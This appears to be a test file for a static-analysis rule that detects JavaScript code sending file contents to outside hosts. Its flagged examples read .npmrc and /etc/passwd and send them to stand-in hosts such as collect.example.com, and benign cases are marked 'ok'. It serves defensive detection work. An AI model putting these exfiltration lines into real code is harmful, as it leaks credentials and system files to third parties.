const content = fs.readFileSync('.npmrc', 'utf8')
// ruleid: js-file-content-sent
https.get({ hostname: 'stats.example.com', headers: { Referer: content } }, () => {})
fs.readFile('/etc/passwd', 'utf8', (err, data) => {
  // ruleid: js-file-content-sent
  axios.post('https://collect.example.com', { data })
})
async function upload(path) {
  const text = await fs.promises.readFile(path)
  // ruleid: js-file-content-sent
  await fetch('https://collect.example.com', { method: 'POST', body: text })
}
const html = fs.readFileSync('page.html')
// ok: js-file-content-sent
res.write(html)
// ok: js-file-content-sent
axios.post('https://api.example.com', { name })
// ok: js-file-content-sent
https.request({ host: 'api.example.com', ca: fs.readFileSync('ca.pem') }, done)
